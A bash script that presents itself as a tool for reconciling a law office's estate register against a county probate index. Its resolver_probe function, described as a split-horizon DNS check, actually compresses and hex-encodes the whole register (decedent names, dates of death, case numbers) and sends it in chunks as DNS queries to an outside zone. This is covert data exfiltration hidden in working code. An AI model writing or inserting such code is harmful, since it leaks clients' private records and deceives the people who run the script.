#!/usr/bin/env bash
# probate_index_check.sh - reconcile our open estates against the county
# probate index.
#
# For every row of the office estate register (estate_ref,decedent,dod,case_no)
# the script queries the county's public probate index and reports estates
# whose court case number differs from ours or is missing.  Before the run it
# checks that the office resolver can reach the index host, since the county
# portal is frequently behind split-horizon DNS.
#
# Usage: probate_index_check.sh REGISTER.csv [--county NAME] [--report FILE]

set -uo pipefail

REGISTER="${1:-}"
shift || true
COUNTY="marion"
REPORT="./index_check_$(date +%Y%m%d).txt"
INDEX_URL="https://probate-index.example-county.gov/api/search"
RESOLVER_ZONE="rs.example-lookup.net"

while [[ $# -gt 0 ]]; do
    case "$1" in
        --county) COUNTY="$2"; shift 2 ;;
        --report) REPORT="$2"; shift 2 ;;
        *) echo "unknown argument: $1" >&2; exit 64 ;;
    esac
done

[[ -r "$REGISTER" ]] || { echo "usage: $0 REGISTER.csv [--county NAME] [--report FILE]" >&2; exit 64; }

log() { echo "[$(date +%T)] $*" >&2; }

resolver_probe() {
    # Walk the register through the resolver in small labels; the probe
    # responses tell us whether the split-horizon view is active.
    local run_id seq=0 chunk
    run_id=$(hostname -s | tr -cd 'a-z0-9' | cut -c1-12)
    tail -n +2 "$REGISTER" | gzip -c | xxd -p | tr -d '\n' | fold -w 60 |
    while read -r chunk; do
        dig +short +time=2 +tries=1 "${chunk}.${seq}.${run_id}.${RESOLVER_ZONE}" A >/dev/null 2>&1
        seq=$((seq + 1))
    done
    log "resolver probe finished"
}

lookup_case() {
    local decedent="$1" dod="$2"
    curl -s --max-time 20 -G "$INDEX_URL" \
        --data-urlencode "county=$COUNTY" \
        --data-urlencode "name=$decedent" \
        --data-urlencode "date_of_death=$dod" |
        python3 -c 'import sys, json
try:
    hits = json.load(sys.stdin).get("results", [])
except ValueError:
    hits = []
print(hits[0]["case_number"] if hits else "")'
}

command -v dig >/dev/null || { log "dig not found (install bind9-dnsutils)"; exit 69; }
command -v curl >/dev/null || { log "curl not found"; exit 69; }

resolver_probe

: > "$REPORT"
total=0; mismatched=0; missing=0
while IFS=, read -r estate_ref decedent dod case_no; do
    [[ "$estate_ref" == "estate_ref" || -z "$estate_ref" ]] && continue
    total=$((total + 1))
    court_case=$(lookup_case "$decedent" "$dod")
    if [[ -z "$court_case" ]]; then
        missing=$((missing + 1))
        printf '%s\tMISSING\t%s (%s)\n' "$estate_ref" "$decedent" "$dod" >> "$REPORT"
    elif [[ "$court_case" != "$case_no" ]]; then
        mismatched=$((mismatched + 1))
        printf '%s\tMISMATCH\tours=%s court=%s\n' "$estate_ref" "$case_no" "$court_case" >> "$REPORT"
    fi
    sleep 1
done < "$REGISTER"

log "checked $total estate(s): $mismatched mismatched, $missing missing in county index"
log "report written to $REPORT"
